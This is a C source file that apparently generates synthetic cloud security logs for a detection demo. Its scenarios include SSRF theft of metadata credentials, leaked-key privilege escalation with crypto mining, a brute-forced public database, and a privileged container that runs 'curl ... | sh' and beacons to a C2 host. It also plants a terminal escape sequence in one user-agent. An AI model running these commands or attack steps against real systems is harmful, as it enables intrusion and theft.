/*
 * Stories that start at a machine or a key: SSRF, the leaked key, the public database, the
 * container.
 */
#include "demo/story.h"

mw_time story_ago(const struct demo *d, int hours, int minutes, int seconds)
{
	return d->end - hours * MW_HOUR - minutes * MW_MINUTE - seconds * MW_SECOND;
}

mw_time story_clock(const struct demo *d, int hour, int minute)
{
	mw_time latest = d->end - 6 * MW_HOUR,
	        at = part_midnight(latest) + hour * MW_HOUR + minute * MW_MINUTE;
	return at > latest ? at - MW_DAY : at;
}

void story_call_in(struct demo *d, const char *region, mw_time at, const struct caller *c,
                   const char *service, const char *name, const char *params, const char *response,
                   const char *error)
{
	struct api a = {.service = service,
	                .name = name,
	                .params = params,
	                .response = response,
	                .region = region};
	a.read = !strncmp(name, "Get", 3) || !strncmp(name, "List", 4) ||
	         !strncmp(name, "Describe", 8);
	a.error = error;
	if (error)
		a.message = jf(d, "User is not authorized to perform: %-s:%-s", service, name);
	trail(d, at, c, &a);
}

void story_call(struct demo *d, mw_time at, const struct caller *c, const char *service,
                const char *name, const char *params, const char *response, const char *error)
{
	story_call_in(d, NULL, at, c, service, name, params, response, error);
}

static void scan_balancer(struct demo *d)
{
	static const int ports[] = {80, 443, 8080, 8443, 22, 3306, 5432, 6379, 9200, 21, 25, 445};
	for (int k = 0; k < 48; k++) {
		int port = ports[k % (int)ARRAY_LEN(ports)];
		struct flow f = {.vpc = VPC_PROD,
		                 .eni = d->w.alb_eni,
		                 .src = IP_SSRF,
		                 .dst = WORLD_ALB_IP,
		                 .dport = port};
		f.sport = 40000 + k;
		f.protocol = 6;
		f.packets = 1 + (port == 443);
		f.bytes = 44 * f.packets;
		f.seconds = 1;
		f.reject = port != 80 && port != 443;
		f.ingress = true;
		f.subnet = 0;
		flow_put(d, story_ago(d, 0, 59, 16 - k / 4), &f);
	}
}

static void fetch_metadata(struct demo *d)
{
	static const char *const urls[] = {
	        "http://169.254.169.254/latest/meta-data/",
	        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	        "http://169.254.169.254/latest/meta-data/iam/security-credentials/app-web"};
	const struct instance *web = world_instance(&d->w, "web-07");
	for (int k = 0; k < 26; k++) { /* looks around first */
		static const char *const paths[] = {"/",      "/login",       "/cart",
		                                    "/fetch", "/.git/config", "/admin"};
		linux_syslog(d, story_ago(d, 0, 48, 0) + k * 14 * MW_SECOND, web, "nginx",
		             jf(d, IP_SSRF " - - \"GET %-s HTTP/1.1\" %d 512 \"-\" \"curl/8.5.0\"",
		                paths[k % 6], k % 6 > 3 ? 404 : 200));
	}
	for (size_t k = 0; k < ARRAY_LEN(urls); k++)
		linux_syslog(d, story_ago(d, 0, 31, 50 - 24 * (int)k), web, "nginx",
		             jf(d,
		                IP_SSRF
		                " - - \"GET /fetch?url=%-s HTTP/1.1\" 200 %d \"-\" \"curl/8.5.0\"",
		                urls[k], 200 + 400 * (int)k));
}

static void take_archive(struct demo *d, const struct caller *c)
{
	const struct bucket *b = world_bucket(&d->w, "fin-archive-prod");
	const struct bucket *hr = world_bucket(&d->w, "hr-exports");
	for (int k = 0; k < 1204; k++) {
		mw_time at = story_ago(d, 0, 28, 58) +
		             (mw_time)k * (15 * MW_MINUTE + 38 * MW_SECOND) / 1204;
		trail_s3(d, at, c, "GetObject", b, jf(d, "2025/statement-%d.pdf", 10000 + k),
		         2400000 + rng_below(&d->rng, 360000), NULL);
	}
	for (int k = 0; k < 60; k++) /* leaves no trace: hr-exports has no data events */
		trail_s3(d, story_ago(d, 0, 12, 0) + k * MW_SECOND, c, "GetObject", hr,
		         jf(d, "payroll-%d.csv", k), 90000, NULL);
}

static void ssrf(struct demo *d)
{
	out_story(&d->out, "ssrf-exfil", "attack", "C", "Role key of web-07 used outside AWS");
	scan_balancer(d);
	fetch_metadata(d);
	const struct instance *web = world_instance(&d->w, "web-07");
	struct caller c = caller_instance(d, d->end - MW_SECOND, web, IP_SSRF, AGENT_ATTACK);
	story_call(d, story_ago(d, 0, 30, 54), &c, "sts", "GetCallerIdentity", NULL, NULL, NULL);
	story_call(d, story_ago(d, 0, 30, 41), &c, "s3", "ListBuckets",
	           "{\"Host\":\"s3.us-east-1.amazonaws.com\"}", NULL, NULL);
	for (int k = 0; k < 14; k++) {
		const struct bucket *b = &d->w.buckets.v[k];
		trail_s3(d, story_ago(d, 0, 30, 30 - k), &c, "GetBucketPolicy", b, NULL, 400,
		         k % 5 == 3 ? "AccessDenied" : NULL);
	}
	take_archive(d, &c);
	story_call(d, story_ago(d, 0, 7, 10), &c, "iam", "ListUsers", "{\"maxItems\":100}", NULL,
	           NULL);
	struct caller odd = c;
	odd.agent = "python-requests/2.31 \x1b]52;c;ZWNobw==\x07";
	story_call(
	        d, story_ago(d, 0, 6, 30), &odd, "iam", "CreateAccessKey",
	        "{\"userName\":\"svc-report\"}",
	        jf(d,
	           "{'accessKey':{'userName':'svc-report','status':'Active','accessKeyId':'" NEW_KEY
	           "','createDate':%s}}",
	           iso(story_ago(d, 0, 6, 30)).s),
	        NULL);
	trail_assume(d, story_ago(d, 0, 2, 19), &c, world_role(&d->w, "audit-read"), "audit", NULL,
	             "AccessDenied");
}

/* Instances that the thief starts. In us-east-1 they sit in a subnet with flow and query logs. */
static struct instance stolen_instance(struct demo *d, enum vpc_ix vpc)
{
	struct instance i = *world_instance(&d->w, "worker-01");
	i.id = world_id(&d->w, "i-", 17);
	i.eni = world_id(&d->w, "eni-", 17);
	i.vpc = vpc;
	i.ip = jf(d, "10.20.4.%d", 210 + rng_between(&d->rng, 0, 20));
	return i;
}

static struct instance run_miner(struct demo *d, mw_time at, const struct caller *c,
                                 const char *region, bool refused)
{
	struct instance i = stolen_instance(d, VPC_PROD);
	struct api a = {.service = "ec2", .name = "RunInstances", .region = region};
	a.params = jf(d,
	              "{'instancesSet':{'items':[{'imageId':%s,'minCount':1,'maxCount':1}]},'"
	              "instanceType':'g5.12xlarge'}",
	              i.image);
	if (refused) {
		a.error = "Client.VcpuLimitExceeded";
		a.message = "You have requested more vCPU capacity than your current vCPU limit "
		            "allows.";
	} else {
		a.response = jf(d,
		                "{'instancesSet':{'items':[{'instanceId':%s,'imageId':%s,'"
		                "instanceType':'g5.12xlarge',"
		                "'networkInterfaceSet':{'items':[{'networkInterfaceId':%s}]},'"
		                "privateIpAddress':%s}]}}",
		                i.id, i.image, i.eni, i.ip);
	}
	trail(d, at, c, &a);
	return i;
}

static void mine(struct demo *d, mw_time from, const struct instance *i)
{
	for (mw_time at = from; at < d->end - MW_MINUTE; at += 5 * MW_MINUTE) {
		dns_put(d, at, i, "pool.xmr-lake.example", "A", IP_POOL);
		flow_out(d, at + MW_SECOND, i, IP_POOL, 3333, rng_between(&d->rng, 20, 60) * 1024);
	}
}

static void leaked_key(struct demo *d)
{
	out_story(&d->out, "leaked-key-mining", "attack", "C",
	          "Leaked key makes a user, then mining");
	struct user *ci = world_user(&d->w, "ci-deploy");
	struct caller c = caller_key(d, ci, ci->key, IP_LEAK, AGENT_ATTACK);
	mw_time at = story_ago(d, 5, 40, 0);
	story_call(d, at, &c, "sts", "GetCallerIdentity", NULL, NULL, NULL);
	story_call(d, at + 9 * MW_SECOND, &c, "iam", "ListAttachedUserPolicies",
	           "{\"userName\":\"ci-deploy\"}", NULL, "AccessDenied");
	story_call(d, at + 15 * MW_SECOND, &c, "iam", "ListUsers", "{\"maxItems\":100}", NULL,
	           NULL);
	story_call(d, at + 40 * MW_SECOND, &c, "ec2", "DescribeRegions", "{\"regionSet\":{}}", NULL,
	           NULL);
	at = story_ago(d, 5, 31, 0);
	struct user thief = *ci;
	thief.name = "backup-sync";
	thief.arn = "arn:aws:iam::111122223333:user/backup-sync";
	thief.uid = "AIDA4EXAMPLEBACKUPSYN";
	const char *key = world_key_id(&d->w, "AKIA");
	story_call(d, at, &c, "iam", "CreateUser", "{\"userName\":\"backup-sync\"}",
	           jf(d, "{'user':{'path':'/','userName':'backup-sync','userId':%s,'arn':%s}}",
	              thief.uid, thief.arn),
	           NULL);
	story_call(d, at + 6 * MW_SECOND, &c, "iam", "AttachUserPolicy",
	           "{\"userName\":\"backup-sync\",\"policyArn\":\"arn:aws:iam::aws:policy/"
	           "AdministratorAccess\"}",
	           NULL, NULL);
	story_call(d, at + 14 * MW_SECOND, &c, "iam", "CreateAccessKey",
	           "{\"userName\":\"backup-sync\"}",
	           jf(d,
	              "{'accessKey':{'userName':'backup-sync','status':'Active','accessKeyId':%s}}",
	              key),
	           NULL);
	story_call(d, at + 30 * MW_SECOND, &c, "iam", "CreateLoginProfile",
	           "{\"userName\":\"backup-sync\",\"passwordResetRequired\":false}", NULL, NULL);
	struct caller t = caller_key(d, &thief, key, IP_LEAK, AGENT_ATTACK);
	at = story_ago(d, 5, 2, 0);
	story_call_in(d, "ap-southeast-1", at, &t, "ec2", "CreateSecurityGroup",
	              "{\"groupName\":\"sync\",\"groupDescription\":\"sync\"}",
	              "{\"groupId\":\"sg-0feedfacecafe0001\"}", NULL);
	story_call_in(d, "ap-southeast-1", at + 4 * MW_SECOND, &t, "ec2",
	              "AuthorizeSecurityGroupIngress",
	              "{\"groupId\":\"sg-0feedfacecafe0001\",\"ipPermissions\":{\"items\":[{"
	              "\"ipProtocol\":\"tcp\",\"fromPort\":22,"
	              "\"toPort\":22,\"ipRanges\":{\"items\":[{\"cidrIp\":\"0.0.0.0/0\"}]}}]}}",
	              NULL, NULL);
	run_miner(d, at + 20 * MW_SECOND, &t, "ap-southeast-1", true);
	for (int k = 0; k < 4; k++)
		run_miner(d, at + (50 + 10 * k) * MW_SECOND, &t, "ap-southeast-1", false);
	for (int k = 0; k < 2; k++) {
		struct instance i = run_miner(d, at + (6 + k) * MW_MINUTE, &t, "us-east-1", false);
		mine(d, at + (9 + k) * MW_MINUTE, &i);
	}
	story_call(d, story_ago(d, 0, 21, 0), &t, "ec2", "DescribeInstances",
	           "{\"instancesSet\":{},\"filterSet\":{}}", NULL, NULL);
}

static void public_database(struct demo *d)
{
	out_story(&d->out, "public-db-bruteforce", "attack", "H",
	          "Public RDS on 3306, brute force seen");
	struct database *db = world_database(&d->w, "orders-replica-db");
	struct secgroup *g = world_group(&d->w, "db-replica-tmp");
	mw_time at = story_ago(d, 30, 0, 0);
	struct caller c = story_saml(d, at, "emil.novak", "ops-admin", "198.51.100.10", true);
	story_call(d, at + MW_MINUTE, &c, "ec2", "AuthorizeSecurityGroupIngress",
	           jf(d,
	              "{'groupId':%s,'ipPermissions':{'items':[{'ipProtocol':'tcp','fromPort':3306,"
	              "'toPort':3306,'ipRanges':{"
	              "'items':[{'cidrIp':'0.0.0.0/0'}]}}]}}",
	              g->id),
	           "{\"_return\":true}", NULL);
	story_call(
	        d, at + 4 * MW_MINUTE, &c, "rds", "ModifyDBInstance",
	        jf(d,
	           "{'dBInstanceIdentifier':%s,'publiclyAccessible':true,'applyImmediately':true}",
	           db->name),
	        jf(d, "{'dBInstanceArn':%s,'publiclyAccessible':true}", db->arn), NULL);
	for (int k = 0; k < 900; k++)
		flow_db(d, story_ago(d, 9, 0, 0) + (mw_time)k * 30 * MW_SECOND, db, IP_BRUTE, true,
		        rng_between(&d->rng, 900, 3600));
	for (int k = 0; k < 24; k++) /* in, and reading */
		flow_db(d, story_ago(d, 1, 15, 0) + k * 50 * MW_SECOND, db, IP_BRUTE, false,
		        (int64_t)rng_between(&d->rng, 7000, 11000) * 1024);
}

static void stolen_token(struct demo *d, const char *pod)
{
	struct kube k = {.cluster = "prod-eks",
	                 .user = "system:serviceaccount:batch:batch-runner",
	                 .ns = "batch"};
	k.groups = "\"system:authenticated\",\"system:serviceaccounts\",\"system:serviceaccounts:"
	           "batch\"";
	k.ip = world_address(&d->w, "@eks-node-03");
	k.agent = "kubectl/v1.28.4 (linux/amd64)";
	mw_time at = story_ago(d, 3, 5, 0);
	k.verb = "create";
	k.resource = "selfsubjectrulesreviews";
	k.code = 201;
	kube_put(d, at, &k);
	static const char *const spaces[] = {"kube-system", "checkout", "ledger", "identity"};
	for (size_t n = 0; n < ARRAY_LEN(spaces); n++) {
		k.verb = "list";
		k.resource = "secrets";
		k.ns = spaces[n];
		k.code = 403;
		kube_put(d, at + (20 + 3 * (int)n) * MW_SECOND, &k);
	}
	k.ns = "batch";
	k.code = 200;
	kube_put(d, at + 40 * MW_SECOND, &k);
	k.verb = "create";
	k.resource = "pods";
	k.name = pod;
	k.code = 201;
	k.request = "{\"kind\":\"Pod\",\"spec\":{\"containers\":[{\"name\":\"helper\",\"image\":"
	            "\"docker.io/lib-mirror/metrics-helper:latest\","
	            "\"securityContext\":{\"privileged\":true}}],\"hostPID\":true,\"volumes\":[{"
	            "\"name\":\"h\",\"hostPath\":{\"path\":\"/\"}}]}}";
	kube_put(d, at + 2 * MW_MINUTE, &k);
	k.request = NULL;
	k.sub = "exec";
	k.code = 101;
	kube_put(d, at + 4 * MW_MINUTE, &k);
}

static void container(struct demo *d)
{
	out_story(&d->out, "container-beacon", "attack", "H",
	          "Container beacon, ns batch, new image");
	struct instance *node = world_instance(&d->w, "eks-node-03");
	stolen_token(d, "metrics-helper-7f9c");
	mw_time at = story_ago(d, 3, 0, 30);
	linux_exec(d, at, node, "root", "/bin/sh",
	           "sh -c curl -s http://cdn-telemetry.example/i.sh | sh",
	           "/usr/bin/containerd-shim-runc-v2");
	linux_exec(d, at + 6 * MW_SECOND, node, "root", "/usr/bin/curl",
	           "curl -s http://cdn-telemetry.example/i.sh", "/bin/sh");
	linux_exec(d, at + 15 * MW_SECOND, node, "root", "/usr/bin/chmod",
	           "chmod +x /tmp/.x/helper", "/bin/sh");
	linux_exec(d, at + 17 * MW_SECOND, node, "root", "/tmp/.x/helper",
	           "/tmp/.x/helper -o " IP_C2 ":443", "/bin/sh");
	for (int k = 0; k < 168; k++)
		flow_out(d, at + (20 + 60 * k) * MW_SECOND + rng_between(&d->rng, 0, 2) * MW_SECOND,
		         node, IP_C2, 443, rng_between(&d->rng, 1500, 2600));
	for (int k = 0; k < 17; k++)
		dns_put(d, at + (18 + 600 * k) * MW_SECOND, node, "cdn-telemetry.example", "A",
		        IP_C2);
}

void stories_attack(struct demo *d)
{
	ssrf(d);
	leaked_key(d);
	public_database(d);
	container(d);
}
